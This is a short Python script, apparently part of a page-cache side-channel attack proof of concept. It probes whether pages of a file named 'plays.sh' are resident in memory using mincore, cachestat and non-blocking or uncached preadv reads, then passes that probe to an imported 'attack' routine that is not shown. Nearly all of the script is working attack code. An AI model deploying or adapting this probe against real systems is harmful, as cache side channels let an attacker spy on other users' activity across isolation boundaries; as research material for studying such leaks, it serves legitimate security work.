#!/usr/bin/env python3
"""Asks the kernel in four ways which pages of a file are in memory."""

import ctypes
import os
import platform

from attack import attack

libc = ctypes.CDLL(None, use_errno=True)
MINCORE, CACHESTAT = (27, 451) if platform.machine() == "x86_64" else (232, 451)
NOWAIT, DONTCACHE = 8, 0x80


def reads(file: int, flags: int) -> bool:
    try:
        return os.preadv(file, [bytearray(1)], 0, flags) == 1
    except OSError:
        return False


def ask() -> bool:
    file = os.open("plays.sh", os.O_RDONLY)
    libc.mmap.restype = ctypes.c_void_p
    page = ctypes.c_void_p(libc.mmap(None, 4096, 1, 2, file, 0))
    return any(
        [
            libc.syscall(MINCORE, page, 4096, ctypes.create_string_buffer(1)) == 0,
            libc.syscall(CACHESTAT, file, (ctypes.c_uint64 * 2)(0, 1), (ctypes.c_uint64 * 5)(), 0)
            == 0,
            reads(file, NOWAIT),
            reads(file, DONTCACHE),
        ]
    )


attack(ask)
